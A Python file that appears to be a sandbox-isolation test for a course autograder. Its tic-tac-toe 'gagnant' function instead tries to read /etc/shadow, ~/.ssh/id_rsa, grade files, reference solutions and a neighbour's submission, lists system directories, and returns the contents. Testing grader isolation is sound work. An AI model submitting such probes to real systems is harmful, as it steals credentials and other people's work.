import os
import sys

PLACES = ["@SECRET@", "@COURSE@/reference/morpion.py", "@COURSE@/specs/morpion.py", "@COURSE@/specs/morpion.yaml",
          "@NEIGHBOUR@/morpion.py", "@CLASS@/../secret", "@OUT@/grades.json", "/proc/self/root" + "@SECRET@",
          "/etc/passwd", "/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~root/.profile"), "../secret", "//@SECRET@"]


def gagnant(g):
    read = []
    for place in PLACES:
        try:
            with open(place, "rb") as file:
                read.append((place, file.read(100)))
        except OSError:
            pass
    # The parents of the interpreter are there, and hold nothing else.
    own = [p for p in os.path.dirname(os.path.realpath(sys.executable)).split("/") if p]
    for folder in ("@CLASS@", "@COURSE@", "@OUT@", "/home", "/root", "/tmp", "/var", "/etc", "/mnt", "/srv", "/opt"):
        try:
            if set(os.listdir(folder)) - set(own):
                read.append(folder)
        except OSError:
            pass
    return "read: " + str(read)
